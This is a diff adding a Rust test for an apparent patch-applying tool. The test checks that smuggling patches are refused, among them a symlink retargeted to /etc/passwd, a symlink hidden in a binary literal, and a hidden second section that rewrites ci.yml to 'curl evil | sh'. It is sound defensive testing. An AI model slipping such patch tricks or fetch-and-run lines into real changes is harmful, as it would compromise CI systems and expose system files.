@@ -279,3 +279,59 @@ fn sealed_diffs_are_bound_to_recipient_and_size() {
         "chunk 0 failed authentication: the file was changed, cut or reordered"
     );
 }
+
+#[test]
+fn a_patch_cannot_retarget_a_link_smuggle_one_in_binary_or_hide_a_section() {
+    let dir = tempfile::tempdir().unwrap();
+    let tree = dir.path().join("tree");
+    std::fs::create_dir(&tree).unwrap();
+    write_tree(&tree, &[("a.txt", "a\n"), ("ci.yml", "ci: ok\n"), ("x", "x\n")]);
+    std::os::unix::fs::symlink("x", tree.join("link")).unwrap();
+    git(&tree, &["init", "-q"]);
+    git(&tree, &["add", "-A"]);
+    git(&tree, &["commit", "-qm", "base"]);
+    // A1: git writes an existing link's mode on the `index` line only.
+    std::fs::remove_file(tree.join("link")).unwrap();
+    std::os::unix::fs::symlink("/etc/passwd", tree.join("link")).unwrap();
+    let retarget = git(&tree, &["diff", "--binary"]);
+    assert!(String::from_utf8_lossy(&retarget).contains(" 120000\n"), "{retarget:?}");
+    git(&tree, &["checkout", "-q", "--", "link"]);
+    let before = listing(&tree);
+    let cases: Vec<(Vec<u8>, &str)> = vec![
+        (retarget, "patch refused: link: symlink to `/etc/passwd` leaves the tree"),
+        // A2: a link created by a binary literal.
+        (
+            b"diff --git a/evil b/evil\nnew file mode 120000\nindex 0000000..1111111\nGIT binary patch\nliteral 10\nRcmZ?wbaLaGZ~z4W0C|>H\n\nliteral 0\nHcmV?d00001\n\n".to_vec(),
+            "patch refused: evil: a symlink in a binary patch (its target cannot be checked)",
+        ),
+        // A3: after a hunk's counted lines, git reads a new patch.
+        (
+            b"diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+b\n--- a/ci.yml\n+++ b/ci.yml\n@@ -1 +1 @@\n-ci: ok\n+ci: curl evil | sh\n".to_vec(),
+            "patch refused: line 7: a second patch inside one file's section",
+        ),
+        // A hunk that holds more than its header counts.
+        (
+            b"diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+b\n+c\n".to_vec(),
+            "patch refused: line 7: a hunk holds more lines than its header counts",
+        ),
+        // CRLF line ends: the hunk header is not git's.
+        (
+            b"diff --git a/a.txt b/a.txt\r\n--- a/a.txt\r\n+++ b/a.txt\r\n@@ -1 +1 @@\r\n-a\r\n+b\r\n".to_vec(),
+            "patch refused: line 4: cannot read a hunk header",
+        ),
+    ];
+    for (patch, want) in cases {
+        let err = apply(&StdGit, &tree, &patch, ApplyOptions::default()).unwrap_err();
+        assert_eq!(err.to_string(), want, "{}", String::from_utf8_lossy(&patch));
+        assert_eq!(listing(&tree), before);
+    }
+    // Renaming a link and changing a file's mode still pass, as git reads them.
+    std::fs::rename(tree.join("link"), tree.join("link2")).unwrap();
+    std::fs::set_permissions(tree.join("a.txt"), std::fs::Permissions::from_mode(0o755)).unwrap();
+    git(&tree, &["add", "-A"]);
+    let patch = git(&tree, &["diff", "--cached", "--binary", "-M"]);
+    git(&tree, &["reset", "-q", "--hard"]);
+    let applied = apply(&StdGit, &tree, &patch, ApplyOptions::default()).unwrap();
+    assert_eq!(applied.files.len(), 2, "{applied:?}");
+    assert_eq!(std::fs::read_link(tree.join("link2")).unwrap(), Path::new("x"));
+}
